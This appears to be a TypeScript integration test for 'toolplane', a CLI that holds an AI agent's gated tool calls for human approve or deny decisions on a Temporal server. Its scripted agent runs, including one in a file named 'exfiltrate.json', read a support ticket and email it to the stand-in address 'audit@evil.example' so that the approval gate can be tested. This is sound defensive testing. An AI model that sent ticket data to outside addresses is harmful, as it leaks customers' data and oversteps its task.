// The operator's loop from a terminal, against a real server: run, wait for a person, answer, show,
// list, describe, cancel; and each CLI error the operator met, with its exit code.
import fs from 'node:fs';
import path from 'node:path';
import { randomUUID } from 'node:crypto';
import type { Manifest } from '../../catalog/manifest';
import { main } from '../../cli';
import { defaultPayloadConverter } from '@temporalio/common';
import { Worker } from '@temporalio/worker';
import { PRINCIPAL } from '../../common/search-attributes';
import { historyOf } from '../support/history';
import { EXAMPLE_MANIFEST, exampleManifest, harness, testAddress, testDir, type Harness } from '../support/env';
import { supportDesk } from '../support/desk';

/** One CLI invocation: its exit code, standard output and standard error, as lines. */
interface Invocation {
  code: Promise<number>;
  out: string[];
  err: string[];
}

function toolplane(...args: string[]): Invocation {
  const out: string[] = [];
  const err: string[] = [];
  const spy = jest.spyOn(console, 'error').mockImplementation((l: string) => void err.push(l));
  const code = main(
    ['node', 'toolplane', ...args],
    (l) => out.push(...l.split('\n')),
    (l) => err.push(l),
  ).finally(() => spy.mockRestore());
  return { code, out, err };
}

async function waitForLine(lines: string[], pattern: RegExp, timeoutMs = 60_000): Promise<string> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const hit = lines.find((l) => pattern.test(l));
    if (hit) return hit;
    if (Date.now() > deadline)
      throw new Error(`no line matched ${pattern} within ${timeoutMs}ms:\n${lines.join('\n')}`);
    await new Promise((r) => setTimeout(r, 100));
  }
}

describe('toolplane CLI against a server', () => {
  const dir = testDir('cli');
  const { outbox, tools } = supportDesk(dir);
  const base = exampleManifest();
  // The mail tool asks a person when the gate questions a call, instead of refusing it.
  const askable: Manifest = {
    ...base,
    tools: base.tools.map((t) => (t.id === 'tool://mail/send_email' ? { ...t, approval: 'on_violation' } : t)),
  };
  const script = path.join(dir, 'exfiltrate.json');
  fs.writeFileSync(
    script,
    JSON.stringify({
      prompt: 'Handle ticket T-101.',
      turns: [
        { tool_calls: [{ name: 'tickets__read_ticket', arguments: { ticket_id: 'T-101' } }] },
        {
          tool_calls: [{ name: 'mail__send_email', arguments: { to: 'audit@evil.example', subject: 's', body: 'b' } }],
        },
        { final: 'done' },
      ],
    }),
  );
  let h: Harness;
  const address = () => ['--address', testAddress()];
  /** Where a dev server at the test address has its Web UI, by the CLI dev server's default (port + 1000). */
  const derivedUi = () => `http://localhost:${Number(testAddress().split(':').pop()) + 1000}`;
  const principal = `agent:cli-${randomUUID()}`;
  const run = (...extra: string[]) =>
    toolplane(
      'run',
      ...address(),
      '--principal',
      principal,
      '--model',
      `scripted:${script}`,
      '--task-queue',
      h.taskQueue,
      ...extra,
    );
  /** `toolplane list --json` with these filters, polled until `ready` holds (visibility is eventually consistent). */
  async function listUntil(filters: string[], ready: (ids: string[]) => boolean): Promise<string[]> {
    const deadline = Date.now() + 30_000;
    for (;;) {
      const listed = toolplane('list', ...address(), '--principal', principal, ...filters, '--json');
      expect(await listed.code).toBe(0);
      const ids = (JSON.parse(listed.out.join('\n')) as { runs: { workflowId: string }[] }).runs.map(
        (r) => r.workflowId,
      );
      if (ready(ids) || Date.now() > deadline) return ids;
      await new Promise((r) => setTimeout(r, 200));
    }
  }

  beforeAll(async () => {
    h = await harness(`cli-${randomUUID()}`);
    await h.runWorker({
      manifest: askable,
      tools,
    });
  });
  afterAll(() => h.close());

  it('run prints the effect key and the exact approve command; approve lets the run complete', async () => {
    const r = run();
    const approveLine = await waitForLine(r.out, /approve: npx toolplane approve \S+ ek-/);
    expect(r.out.join('\n')).toMatch(
      /#1 tool:\/\/mail\/send_email waits for approval: .*protected_field:\/to.*until \d{4}-\d\d-\d\d \d\d:\d\d UTC \(in \d/,
    );
    const [workflowId, effectKey] = approveLine.split('approve ').pop()!.split(' ');
    // Pasted anywhere, the printed commands reach the server the run is on (not the default one).
    expect(approveLine.trim()).toBe(
      `approve: npx toolplane approve ${workflowId} ${effectKey} --address ${testAddress()}`,
    );
    expect(r.out).toContain(
      `    deny:    npx toolplane deny ${workflowId} ${effectKey} --reason "<why>" --address ${testAddress()}`,
    );
    // The Web UI link is that of the server used: a local dev server's UI sits at its port + 1000.
    expect(r.out[0]).toMatch(
      new RegExp(
        `^run ${workflowId} started on task queue \\S+; Web UI: ${derivedUi()}/namespaces/default/workflows/${workflowId}/[0-9a-f-]+/history$`,
      ),
    );

    // While the call waits, show says so: waiting, for approval, under the key to approve.
    const waiting = toolplane('show', workflowId!, ...address(), '--json');
    expect(await waiting.code).toBe(0);
    expect(JSON.parse(waiting.out.join('\n')).effects[1]).toMatchObject({
      position: 1,
      toolId: 'tool://mail/send_email',
      effectKey,
      decision: 'awaiting approval',
      rule: 'protected_field:/to',
      outcome: 'waiting',
      waiting: { kind: 'approval' },
      personDecisions: [],
    });
    const waitingText = toolplane('show', workflowId!, ...address());
    expect(await waitingText.code).toBe(0);
    expect(waitingText.out.join('\n')).toMatch(
      /^#1\s+tool:\/\/mail\/send_email\s+ek-\S+…\s+0\s+none\s+waiting\s+awaiting approval · protected_field:\/to · /m,
    );

    const described = toolplane('describe', workflowId!, ...address(), '--json');
    expect(await described.code).toBe(0);
    expect(JSON.parse(described.out.join('\n'))).toMatchObject({
      status: 'RUNNING',
      pending: [{ effectKey, kind: 'approval', toolId: 'tool://mail/send_email' }],
    });

    expect(await listUntil(['--waiting'], (ids) => ids.includes(workflowId!))).toContain(workflowId);

    const approved = toolplane(
      'approve',
      workflowId!,
      effectKey!,
      ...address(),
      '--by',
      'supervisor',
      '--reason',
      'known auditor',
    );
    expect(await approved.code).toBe(0);
    expect(approved.out).toEqual([`${workflowId}: ${effectKey} approved by supervisor`]);
    expect(await r.code).toBe(0);
    expect(r.out).toContain(`run ${workflowId} completed`);
    expect(outbox.all().some((m) => m.to === 'audit@evil.example')).toBe(true);
    expect(await listUntil(['--waiting'], (ids) => !ids.includes(workflowId!))).not.toContain(workflowId);
    const shown = toolplane('show', workflowId!, ...address());
    expect(await shown.code).toBe(0);
    expect(shown.out.join('\n')).toMatch(
      /#1\s+tool:\/\/mail\/send_email\s.*\[person: approve by supervisor\]\s+ok\s+approved · protected_field:\/to · .*approved by supervisor: known auditor$/m,
    );
    const shownJson = toolplane('show', workflowId!, ...address(), '--json');
    expect(await shownJson.code).toBe(0);
    expect(JSON.parse(shownJson.out.join('\n')).effects[1]).toMatchObject({
      effectKey,
      decision: 'approved',
      outcome: 'ok',
      personDecisions: ['approve by supervisor'],
    });

    // The run has finished: answering it again says so, not that there is no such run.
    for (const answer of [
      ['approve', workflowId!, effectKey!],
      ['deny', workflowId!, effectKey!, '--reason', 'late'],
      ['resolve', workflowId!, effectKey!, 'retry'],
    ]) {
      const late = toolplane(...answer, ...address());
      expect(await late.code).toBe(1);
      expect(late.err).toEqual([
        `run "${workflowId}" in namespace "default" has finished (COMPLETED): nothing waits for a decision`,
      ]);
    }
    const unknown = toolplane('approve', `no-such-run-${randomUUID()}`, effectKey!, ...address());
    expect(await unknown.code).toBe(1);
    expect(unknown.err.join('\n')).toMatch(/^no run "no-such-run-.*" in namespace "default"$/);

    // describe links the run in the Web UI the operator names (--ui-url, else TEMPORAL_UI_URL), else the derived one.
    const described2 = async (...extra: string[]) => {
      const d = toolplane('describe', workflowId!, ...address(), '--json', ...extra);
      expect(await d.code).toBe(0);
      return (JSON.parse(d.out.join('\n')) as { webUi: string; runId: string }).webUi;
    };
    const runPath = `/namespaces/default/workflows/${workflowId}/`;
    expect(await described2()).toMatch(new RegExp(`^${derivedUi()}${runPath}[0-9a-f-]+/history$`));
    expect(await described2('--ui-url', 'http://ui.example:8080/')).toMatch(
      new RegExp(`^http://ui\\.example:8080${runPath}`),
    );
    process.env.TEMPORAL_UI_URL = 'https://temporal-ui.internal';
    try {
      expect(await described2()).toMatch(new RegExp(`^https://temporal-ui\\.internal${runPath}`));
    } finally {
      delete process.env.TEMPORAL_UI_URL;
    }
  });

  it('deny records the reason, which show prints with who denied', async () => {
    const r = run();
    const denyLine = await waitForLine(r.out, /deny: +npx toolplane deny /);
    const [workflowId, effectKey] = denyLine.split('deny ').pop()!.split(' ');
    const noReason = toolplane('deny', workflowId!, effectKey!, ...address());
    expect(await noReason.code).toBe(2);
    expect(noReason.err.join('\n')).toMatch(/required option '--reason <text>'/);
    const denied = toolplane(
      'deny',
      workflowId!,
      effectKey!,
      ...address(),
      '--by',
      'alice',
      '--reason',
      'not our auditor',
    );
    expect(await denied.code).toBe(0);
    expect(await r.code).toBe(0);
    expect(await listUntil(['--refused'], (ids) => ids.includes(workflowId!))).toContain(workflowId);
    const described = toolplane('describe', workflowId!, ...address(), '--json');
    expect(await described.code).toBe(0);
    expect(JSON.parse(described.out.join('\n'))).toMatchObject({
      status: 'COMPLETED',
      refusals: 1,
      waitingFor: 'none',
    });
    // The history carries what the Web UI shows: numbered model turns, the approval timer, the attributes' changes.
    const events = await historyOf(h.client, workflowId!);
    const summaries = events
      .filter((e) => e.userMetadata?.summary)
      .map((e) => defaultPayloadConverter.fromPayload<string>(e.userMetadata!.summary!));
    expect(summaries).toEqual(
      expect.arrayContaining([
        'model turn 1',
        'model turn 3',
        expect.stringMatching(/^approval deadline \d{4}-\d\d-\d\d \d\d:\d\d UTC: #1 tool:\/\/mail\/send_email$/),
      ]),
    );
    const waiting = events
      .map((e) => e.upsertWorkflowSearchAttributesEventAttributes?.searchAttributes?.indexedFields?.ToolplaneWaitingFor)
      .filter((p) => p !== undefined && p !== null)
      .map((p) => defaultPayloadConverter.fromPayload<string>(p));
    // Each upsert carries both attributes; whom the run waited for, in order, without repeats. The run
    // started waiting for nobody, which is not upserted again:
    expect(waiting.filter((w, i) => w !== waiting[i - 1])).toEqual(['approval', 'none']);
    const shown = toolplane('show', workflowId!, ...address());
    expect(await shown.code).toBe(0);
    expect(shown.out.join('\n')).toMatch(
      /#1\s+tool:\/\/mail\/send_email\s.*\[person: deny by alice\]\s+refused\s+denied · protected_field:\/to · .*denied by alice: not our auditor$/m,
    );
  });

  it('run reports an approval when it happens, and prints effects in position order', async () => {
    // Two questions: the run cannot end before the second is answered, so what it printed of the
    // first approval by then was printed when that approval happened.
    const twice = path.join(dir, 'twice.json');
    fs.writeFileSync(
      twice,
      JSON.stringify({
        prompt: 'Handle ticket T-101.',
        turns: [
          { tool_calls: [{ name: 'tickets__read_ticket', arguments: { ticket_id: 'T-101' } }] },
          {
            tool_calls: [
              { name: 'mail__send_email', arguments: { to: 'audit@evil.example', subject: 'one', body: 'b' } },
            ],
          },
          {
            tool_calls: [
              { name: 'mail__send_email', arguments: { to: 'audit@evil.example', subject: 'two', body: 'b' } },
            ],
          },
          { final: 'done' },
        ],
      }),
    );
    const r = toolplane(
      'run',
      ...address(),
      '--principal',
      principal,
      '--model',
      `scripted:${twice}`,
      '--task-queue',
      h.taskQueue,
    );
    const first = await waitForLine(r.out, /approve: npx toolplane approve \S+ ek-/);
    const [workflowId, firstKey] = first.split('approve ').pop()!.split(' ');
    const approved = toolplane('approve', workflowId!, firstKey!, ...address(), '--by', 'supervisor');
    expect(await approved.code).toBe(0);
    await waitForLine(r.out, /^ {2}#1 tool:\/\/mail\/send_email {2}approved by supervisor; the call goes ahead$/);
    const second = await waitForLine(
      r.out,
      new RegExp(`approve: npx toolplane approve ${workflowId} (?!${firstKey})ek-`),
    );
    const secondKey = second.split('approve ').pop()!.split(' ')[1]!;
    // Still waiting for the second answer, the first call is reported done too.
    await waitForLine(r.out, /^ {2}#1 tool:\/\/mail\/send_email {2}approved \(protected_field:\/to\) → ok$/);
    const denied = toolplane(
      'deny',
      workflowId!,
      secondKey,
      ...address(),
      '--by',
      'alice',
      '--reason',
      'once is enough',
    );
    expect(await denied.code).toBe(0);
    expect(await r.code).toBe(0);
    // The follower's lines (the waits are announced beside them, as they are seen).
    const effects = r.out.filter((l) => /^ {2}#\d+ /.test(l) && !/ waits for approval: /.test(l));
    expect(effects).toEqual([
      '  #0 tool://tickets/read_ticket  allowed → ok',
      '  #1 tool://mail/send_email  approved by supervisor; the call goes ahead',
      '  #1 tool://mail/send_email  approved (protected_field:/to) → ok',
      expect.stringMatching(
        /^ {2}#2 tool:\/\/mail\/send_email {2}denied by protected_field:\/to: .*denied by alice: once is enough$/,
      ),
    ]);
  });

  it('resolve with approve is a usage error that names the command to use', async () => {
    const r = toolplane('resolve', 'wf-1', 'ek-1', 'approve', ...address());
    expect(await r.code).toBe(2);
    expect(r.err.join('\n')).toMatch(
      /resolve decides in-doubt calls \(retry, landed, abort\); an approval is answered with\n\s+toolplane approve wf-1 ek-1/,
    );
  });

  it('show, describe, escalations and cancel of an unknown run say so and exit 1', async () => {
    for (const cmd of ['show', 'describe', 'escalations', 'cancel']) {
      const r = toolplane(cmd, `no-such-run-${randomUUID()}`, ...address());
      expect(await r.code).toBe(1);
      expect(r.err.join('\n')).toMatch(/^no run "no-such-run-.*" in namespace "default"$/);
    }
  });

  it('a refused run prints its root cause and exits 1', async () => {
    // The worker serves `askable`; a run pinned to the example manifest is refused.
    const r = run('--manifest', EXAMPLE_MANIFEST);
    expect(await r.code).toBe(1);
    const text = r.out.join('\n');
    expect(text).toMatch(
      /run \S+ failed:\n\s+WorkflowFailedError: Workflow execution failed\n\s+caused by RunRefused: .*pinned to manifest/,
    );
  });

  it('run says when no worker polls the task queue, and how to start one', async () => {
    const queue = `nobody-${randomUUID()}`;
    const workflowId = `cli-idle-${randomUUID()}`;
    const r = toolplane(
      'run',
      ...address(),
      '--model',
      `scripted:${script}`,
      '--task-queue',
      queue,
      '--workflow-id',
      workflowId,
    );
    await waitForLine(r.out, new RegExp(`no worker polls task queue "${queue}"`));
    expect(r.out.join('\n')).toContain(
      `npx toolplane worker --manifest <manifest.yaml> --tools <module> --task-queue ${queue}`,
    );
    await h.client.workflow.getHandle(workflowId).terminate('test over');
    expect(await r.code).toBe(1);
    expect(r.out.join('\n')).toMatch(/caused by TerminatedFailure: test over/);
  });

  it('list finds runs by principal; cancel ends a waiting run', async () => {
    const principal = `agent:list-${randomUUID()}`;
    const r = toolplane(
      'run',
      ...address(),
      '--principal',
      principal,
      '--model',
      `scripted:${script}`,
      '--task-queue',
      h.taskQueue,
    );
    const line = await waitForLine(r.out, /approve: npx toolplane approve /);
    const workflowId = line.split('approve ').pop()!.split(' ')[0]!;
    const deadline = Date.now() + 30_000;
    let rows: { workflowId: string; status: string; principal: string }[] = [];
    while (rows.length === 0 && Date.now() < deadline) {
      const listed = toolplane('list', ...address(), '--principal', principal, '--json');
      expect(await listed.code).toBe(0);
      rows = (JSON.parse(listed.out.join('\n')) as { runs: typeof rows }).runs;
    }
    expect(rows).toEqual([expect.objectContaining({ workflowId, status: 'RUNNING', principal })]);
    const cancelled = toolplane('cancel', workflowId, ...address());
    expect(await cancelled.code).toBe(0);
    expect(await r.code).toBe(1);
    expect(r.out.join('\n')).toMatch(/caused by CancelledFailure/);
  });
  it('describe and list report a run whose workflow task keeps failing', async () => {
    const queue = `stuck-${randomUUID()}`;
    const stuckPrincipal = `agent:stuck-${randomUUID()}`;
    const worker = await Worker.create({
      connection: h.native,
      taskQueue: queue,
      workflowsPath: require.resolve('../fixtures/stuck-workflow/workflows'),
    });
    const running = worker.run();
    const workflowId = `cli-stuck-${randomUUID()}`;
    try {
      await h.client.workflow.start('agentRun', {
        taskQueue: queue,
        workflowId,
        typedSearchAttributes: [{ key: PRINCIPAL, value: stuckPrincipal }],
      });
      const message = 'workflow code bug: cannot read the ticket (a test failure, on every attempt)';
      // The server retries the failed task; once it is past its first attempt, describe reports it.
      const deadline = Date.now() + 60_000;
      let described: { status: string; workflowTaskFailing?: Record<string, unknown> } = { status: '' };
      while (!described.workflowTaskFailing && Date.now() < deadline) {
        const d = toolplane('describe', workflowId, ...address(), '--json');
        expect(await d.code).toBe(0);
        described = JSON.parse(d.out.join('\n')) as typeof described;
        if (!described.workflowTaskFailing) await new Promise((r) => setTimeout(r, 200));
      }
      expect(described).toMatchObject({
        status: 'RUNNING',
        workflowTaskFailing: {
          attempt: expect.any(Number),
          since: expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
          message,
          cause: 'WORKFLOW_TASK_FAILED_CAUSE_WORKFLOW_WORKER_UNHANDLED_FAILURE',
        },
      });
      expect(described.workflowTaskFailing!.attempt).toBeGreaterThanOrEqual(2);
      const text = toolplane('describe', workflowId, ...address());
      expect(await text.code).toBe(0);
      expect(text.out[1]).toMatch(
        new RegExp(
          `^ {2}STUCK: +workflow task failing since \\d{4}-\\d\\d-\\d\\dT\\S+ \\(attempt \\d+\\): ${message.replace(/[()]/g, '\\$&')}$`,
        ),
      );

      // list finds it by principal once visibility has it, and marks it.
      let listed: string[] = [];
      const listDeadline = Date.now() + 30_000;
      while (!listed.some((l) => l.startsWith(workflowId)) && Date.now() < listDeadline) {
        const l = toolplane('list', ...address(), '--principal', stuckPrincipal);
        expect(await l.code).toBe(0);
        listed = l.out;
        if (!listed.some((x) => x.startsWith(workflowId))) await new Promise((r) => setTimeout(r, 200));
      }
      expect(listed[1]).toMatch(new RegExp(`^${workflowId}\\s+RUNNING \\(STUCK\\)\\s+${stuckPrincipal}\\s`));
      expect(listed).toContainEqual(
        expect.stringMatching(
          new RegExp(`^${workflowId}: workflow task failing since \\S+ \\(attempt \\d+\\): workflow code bug`),
        ),
      );
      const json = toolplane('list', ...address(), '--principal', stuckPrincipal, '--json');
      expect(await json.code).toBe(0);
      expect(JSON.parse(json.out.join('\n')).runs).toEqual([
        expect.objectContaining({
          workflowId,
          status: 'RUNNING',
          workflowTaskFailing: expect.objectContaining({ message }),
        }),
      ]);
    } finally {
      await h.client.workflow
        .getHandle(workflowId)
        .terminate('test over')
        .catch(() => undefined);
      worker.shutdown();
      await running;
    }
  });
});
